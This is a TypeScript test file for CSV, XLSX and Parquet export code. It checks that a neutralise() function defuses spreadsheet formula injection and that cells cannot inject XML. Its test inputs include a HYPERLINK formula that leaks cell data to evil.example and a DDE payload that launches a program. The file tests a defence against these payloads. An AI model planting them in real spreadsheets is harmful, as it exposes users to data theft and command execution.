import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { DuckDBInstance } from '@duckdb/node-api';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { neutralise } from './cells.ts';
import { writeCsv } from './csv.ts';
import { writeParquet } from './parquet.ts';
import { writeXlsx } from './xlsx.ts';

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1',
  '  =1+1',
  '\u00A0=1',
  '\u200B=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=HYPERLINK("https://evil.example?leak="&A1)',
  '=cmd|\u0027/c calc\u0027!A1',
];

const column = (name: string, type: 'text' | 'number' | 'integer' | 'boolean' | 'date' | 'list') => ({
  name,
  label: name,
  type,
  role: 'dimension' as const,
});

const answer = {
  columns: [
    column('=plan', 'text'),
    column('paid', 'number'),
    column('claims', 'integer'),
    column('high', 'boolean'),
    column('groups', 'list'),
  ],
  rows: [
    { '=plan': '=1+1', paid: -12.5, claims: 3, high: true, groups: ['canc', 'mld'] },
    { '=plan': 'Gold, "PPO"', paid: null, claims: -4, high: null, groups: [] },
    { '=plan': null, paid: 0.0797, claims: null, high: false, groups: null },
  ],
};

describe('neutralise()', () => {
  test.each(FORMULAS)('keeps %j from being computed', (text) => {
    expect(neutralise(text)).toBe(`'${text}`);
  });

  test.each(['Gold PPO', '2025-10', 'E11.9', 'a=b', 'C000468', ''])('leaves %j as it is', (text) => {
    expect(neutralise(text)).toBe(text);
  });

  test('takes out what no cell shows, and halves of surrogate pairs', () => {
    expect(neutralise('a\u0000b\uD800')).toBe('a\uFFFDb\uFFFD');
  });
});

describe('a CSV', () => {
  test('keeps numbers as numbers, and neutralises text, names of columns and lists', async () => {
    const text = (await buffer(writeCsv(answer))).toString();
    expect(text).toBe(
      [
        "\uFEFF'=plan,paid,claims,high,groups",
        '\'=1+1,-12.5,3,true,"canc; mld"',
        '"Gold, ""PPO""",,-4,,',
        ',0.0797,,false,',
        '',
      ].join('\r\n'),
    );
  });

  test('quotes whatever would break a line or a cell', async () => {
    const rows = [{ a: '=1,"x"\r\n=2' }];
    const text = (await buffer(writeCsv({ columns: [column('a', 'text')], rows }))).toString();
    expect(text).toBe('\uFEFFa\r\n"\'=1,""x""\r\n=2"\r\n');
  });
});

describe('an XLSX', () => {
  const sheetOf = (given: Parameters<typeof writeXlsx>[0]): string => {
    const files = unzipSync(writeXlsx(given));
    expect(Object.keys(files).toSorted((a, b) => (a < b ? -1 : 1))).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
    ]);
    return strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  };

  test('holds no formula: text is inline text, numbers and truths are what they are', () => {
    const sheet = sheetOf(answer);
    expect(sheet).not.toContain('<f');
    expect(sheet).toContain(`<t xml:space="preserve">'=plan</t>`);
    expect(sheet).toContain(`<t xml:space="preserve">'=1+1</t>`);
    expect(sheet).toContain('<c><v>-12.5</v></c><c><v>3</v></c><c t="b"><v>1</v></c>');
    expect(sheet).toContain('Gold, &quot;PPO&quot;');
  });

  test('lets no cell write XML, and is the same bytes each time', () => {
    const rows = [{ a: '</t></is></c><c><f>1+1</f></c>' }];
    const given = { columns: [column('a', 'text')], rows };
    expect(sheetOf(given)).toContain('&lt;f&gt;');
    expect(Buffer.from(writeXlsx(given)).equals(Buffer.from(writeXlsx(given)))).toBe(true);
  });
});

describe('a Parquet file', () => {
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'chartwright-parquet-'));
  });
  afterAll(() => rm(folder, { recursive: true, force: true }));

  test('is read by another engine with the names, types and values of the answer', async () => {
    const path = join(folder, 'answer.parquet');
    await writeFile(path, writeParquet(answer));
    const connection = await (await DuckDBInstance.create(':memory:')).connect();
    const reader = await connection.runAndReadAll(`select * from read_parquet('${path}')`);
    expect(reader.columnNames()).toEqual(['=plan', 'paid', 'claims', 'high', 'groups']);
    expect(reader.columnTypes().map(String)).toEqual(['VARCHAR', 'DOUBLE', 'BIGINT', 'BOOLEAN', 'VARCHAR']);
    expect(reader.getRowsJson()).toEqual([
      ['=1+1', -12.5, '3', true, 'canc; mld'],
      ['Gold, "PPO"', null, '-4', null, ''],
      [null, 0.0797, null, false, null],
    ]);
    connection.closeSync();
  });

  test('of no rows has its columns', async () => {
    const path = join(folder, 'empty.parquet');
    await writeFile(path, writeParquet({ ...answer, rows: [] }));
    const connection = await (await DuckDBInstance.create(':memory:')).connect();
    const reader = await connection.runAndReadAll(`select count(*)::int as n from read_parquet('${path}')`);
    expect(reader.getRowsJson()).toEqual([[0]]);
    connection.closeSync();
  });
});
